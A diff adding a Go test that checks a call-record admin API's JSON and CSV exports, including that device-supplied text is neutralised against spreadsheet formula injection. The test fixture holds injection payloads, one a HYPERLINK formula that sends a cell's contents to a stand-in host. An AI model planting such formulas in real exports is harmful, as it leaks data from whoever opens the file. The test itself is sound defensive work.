@@ -3,6 +3,7 @@ package caddyenroll
 import (
 	"context"
 	"crypto/sha256"
+	"encoding/csv"
 	"encoding/hex"
 	"encoding/json"
 	"errors"
@@ -622,4 +623,50 @@ func TestCDRAdminParameters(t *testing.T) {
 	if f := purges[2].ContextMap(); f["days_deleted"] != int64(4) || f["legacy_records_deleted"] != int64(2) {
 		t.Errorf("last purge log: %+v", f)
 	}
+}
+
+// Exports stream the same records, in the same order, as cdrs lists them;
+// text a device reported cannot run as a spreadsheet formula.
+func TestCDRExportStream(t *testing.T) {
+	a, _, _ := cdrTestApp(t, at("2024-03-05T23:30:00Z"))
+	cdrFixture(t, a)
+	evil := testCDR(77, at("2024-03-02T08:00:00Z"))
+	evil.Calling, evil.Destination, evil.TermCauses = `=HYPERLINK("http://x/?"&A1,"y")`, "@SUM(1)", []string{"+1 cause", "ok"}
+	mustStore(t, a, evil)
+	want, err := a.cdrs(context.Background(), dayRange{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ad := &adminAPI{app: a, log: zap.NewNop()}
+	get := func(uri string) string {
+		rec := httptest.NewRecorder()
+		if err := ad.serve(rec, httptest.NewRequest("GET", uri, nil)); err != nil {
+			t.Fatalf("GET %s: %v", uri, err)
+		}
+		return rec.Body.String()
+	}
+	var got []CDR
+	if err := json.Unmarshal([]byte(get("/enroll/cdrs")), &got); err != nil {
+		t.Fatal(err)
+	}
+	if len(want) < 5 || !reflect.DeepEqual(got, want) {
+		t.Fatalf("JSON export differs from the list (%d and %d records)", len(got), len(want))
+	}
+	rows, err := csv.NewReader(strings.NewReader(get("/enroll/cdrs?format=csv"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(want)+1 {
+		t.Fatalf("%d CSV rows for %d records", len(rows), len(want))
+	}
+	for _, row := range rows[1:] {
+		if row[0] != "77" {
+			continue
+		}
+		if row[4] != `'=HYPERLINK("http://x/?"&A1,"y")` || row[6] != "'@SUM(1)" || row[14] != "'+1 cause;ok" || row[5] != "1405" {
+			t.Fatalf("CSV row of the device's text: %q", row)
+		}
+		return
+	}
+	t.Fatal("the record is missing from the CSV export")
 }
